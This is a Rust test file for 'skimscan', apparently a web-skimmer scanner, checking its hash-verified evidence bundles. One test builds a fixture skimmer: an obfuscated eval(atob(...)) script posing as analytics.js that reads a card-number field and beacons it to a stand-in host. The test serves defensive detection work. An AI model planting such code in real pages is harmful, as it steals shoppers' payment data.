//! `scan --evidence DIR`: every page and script body stored under `artifacts/<sha256>`, the JSON
//! report as `report.json`, and a `MANIFEST.sha256` that GNU `sha256sum -c` verifies — written
//! inside DIR only; a non-empty DIR refused (exit 2, nothing scanned) unless `--force`.

mod common;
mod har_support;

use common::skimscan;
use predicates::prelude::*;
use serde_json::Value;
use std::path::Path;

fn sha256sum_check(dir: &Path) -> std::process::Output {
    std::process::Command::new("sha256sum")
        .args(["--check", "--strict", "MANIFEST.sha256"])
        .current_dir(dir)
        .output()
        .expect("sha256sum (GNU coreutils) is installed")
}

/// Every file below `root`, relative, sorted.
fn files(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push(p.strip_prefix(root).unwrap().to_string_lossy().into_owned());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn a_bundle_of_a_captured_visit_verifies_with_sha256sum() {
    let work = tempfile::tempdir().unwrap();
    let har = har_support::write(
        work.path(),
        "visit.har",
        &har_support::shop_visit("https://juniper-rye.example", true),
    );
    let before = files(work.path());
    let ev = work.path().join("case-4711");
    let out = skimscan()
        .current_dir(work.path())
        .args(["scan", "--format", "json", "--evidence", "case-4711", &har])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Nothing written outside DIR.
    let after: Vec<String> = files(work.path())
        .into_iter()
        .filter(|f| !f.starts_with("case-4711"))
        .collect();
    assert_eq!(before, after);

    let check = sha256sum_check(&ev);
    assert!(
        check.status.success(),
        "{}{}",
        String::from_utf8_lossy(&check.stdout),
        String::from_utf8_lossy(&check.stderr)
    );
    // The manifest lists every file in DIR (but itself).
    let manifest = std::fs::read_to_string(ev.join("MANIFEST.sha256")).unwrap();
    let listed: Vec<&str> = manifest.lines().map(|l| &l[66..]).collect();
    let mut present = files(&ev);
    present.retain(|f| f != "MANIFEST.sha256");
    assert_eq!(listed, present);

    // report.json is the report printed.
    let stdout: Value = serde_json::from_slice(&out.stdout).unwrap();
    let saved: Value =
        serde_json::from_slice(&std::fs::read(ev.join("report.json")).unwrap()).unwrap();
    assert_eq!(stdout, saved);

    // Every script with a hash — the base64 library with its skimmer, inline code, the script
    // loaded at run time — is stored under its hash, byte for byte; the pages too.
    for s in saved["scripts"].as_array().unwrap() {
        if let Some(h) = s["sha256"].as_str() {
            let p = ev.join("artifacts").join(h);
            assert!(p.is_file(), "{} ({})", s["id"], h);
        }
    }
    let library = format!("{}{}", har_support::LIBRARY_CLEAN, har_support::SKIMMER);
    let stored: Vec<Vec<u8>> = files(&ev.join("artifacts"))
        .iter()
        .map(|f| std::fs::read(ev.join("artifacts").join(f)).unwrap())
        .collect();
    assert!(stored.iter().any(|b| b == library.as_bytes()));
    assert!(
        stored
            .iter()
            .any(|b| b == har_support::checkout().as_bytes())
    );
    let index: Value =
        serde_json::from_slice(&std::fs::read(ev.join("index.json")).unwrap()).unwrap();
    assert!(
        index
            .as_object()
            .unwrap()
            .values()
            .any(|v| v["sources"][0] == "https://juniper-rye.example/checkout/"),
        "{index:#}"
    );

    // Tampering is caught: the manifest is not decoration.
    let first = files(&ev.join("artifacts")).remove(0);
    std::fs::write(ev.join("artifacts").join(first), "tampered").unwrap();
    assert!(!sha256sum_check(&ev).status.success());
}

#[test]
fn a_non_empty_dir_is_refused_unless_forced() {
    let work = tempfile::tempdir().unwrap();
    let ev = work.path().join("ev");
    std::fs::create_dir(&ev).unwrap();
    std::fs::write(ev.join("notes.txt"), "responder's notes").unwrap();
    let shop = concat!(env!("CARGO_MANIFEST_DIR"), "/demo/shop");
    skimscan()
        .args(["scan", "--evidence", ev.to_str().unwrap(), shop])
        .assert()
        .code(2)
        .stdout(predicate::str::is_empty())
        .stderr(predicate::str::contains("not empty").and(predicate::str::contains("--force")));
    assert_eq!(files(&ev), ["notes.txt"]);

    skimscan()
        .args(["scan", "--force", "--evidence", ev.to_str().unwrap(), shop])
        .assert()
        .code(1);
    // The responder's file is kept, and covered by the manifest like everything else.
    assert_eq!(
        std::fs::read_to_string(ev.join("notes.txt")).unwrap(),
        "responder's notes"
    );
    assert!(sha256sum_check(&ev).status.success());
    let manifest = std::fs::read_to_string(ev.join("MANIFEST.sha256")).unwrap();
    assert!(manifest.contains("  notes.txt\n"));
    assert!(manifest.contains("  report.json\n"));
    // A second forced run replaces the bundle rather than mixing two scans' artifacts.
    let n = files(&ev.join("artifacts")).len();
    skimscan()
        .args(["scan", "--force", "--evidence", ev.to_str().unwrap(), shop])
        .assert()
        .code(1);
    assert_eq!(files(&ev.join("artifacts")).len(), n);
    assert!(sha256sum_check(&ev).status.success());
}

#[test]
fn an_unwritable_evidence_path_is_a_usage_error() {
    let work = tempfile::tempdir().unwrap();
    let file = work.path().join("a-file");
    std::fs::write(&file, "x").unwrap();
    let shop = concat!(env!("CARGO_MANIFEST_DIR"), "/demo/shop");
    skimscan()
        .args(["scan", "--evidence", file.to_str().unwrap(), shop])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--evidence"));
}

/// The code a skimmer hid (`eval(atob(…))`) is evidence too: the decoded layer is kept as an
/// artifact of its own, named in the index by the script it came from, so a responder can
/// read what ran without decoding it again.
#[test]
fn decoded_layers_are_kept_beside_their_script() {
    let work = tempfile::tempdir().unwrap();
    let hidden = "document.querySelector('#pay').addEventListener('click',function(){var n=document.getElementById('cc_number').value;new Image().src='https://metrics-cdn.example/p?c='+encodeURIComponent(n);});";
    use base64::Engine as _;
    let packed = base64::engine::general_purpose::STANDARD.encode(hidden);
    let page = "<!doctype html><html><head><meta charset=\"utf-8\"><title>Checkout</title></head><body>\
<form action=\"/pay\"><input id=\"cc_number\" name=\"cc_number\" autocomplete=\"cc-number\"><button id=\"pay\">Pay</button></form>\
<script src=\"js/analytics.js\"></script></body></html>";
    let site = work.path().join("site");
    std::fs::create_dir_all(site.join("js")).unwrap();
    std::fs::write(site.join("checkout.html"), page).unwrap();
    std::fs::write(
        site.join("js/analytics.js"),
        format!("/* analytics v2 */\neval(atob('{packed}'));\n"),
    )
    .unwrap();
    let ev = work.path().join("case-9");
    let out = skimscan()
        .args(["scan", "--format", "json", "--evidence"])
        .arg(&ev)
        .arg(site.join("checkout.html"))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let index: serde_json::Value =
        serde_json::from_slice(&std::fs::read(ev.join("index.json")).unwrap()).unwrap();
    let decoded: Vec<&String> = index
        .as_object()
        .unwrap()
        .iter()
        .filter(|(_, v)| {
            v["sources"].as_array().unwrap().iter().any(|s| {
                s.as_str()
                    .is_some_and(|s| s.starts_with("decoded from ") && s.ends_with("analytics.js"))
            })
        })
        .map(|(sha, _)| sha)
        .collect();
    assert_eq!(decoded.len(), 1, "{index:#}");
    let text = std::fs::read_to_string(ev.join("artifacts").join(decoded[0])).unwrap();
    assert!(text.contains("metrics-cdn.example/p?c="), "{text}");
    assert!(sha256sum_check(&ev).status.success());
}
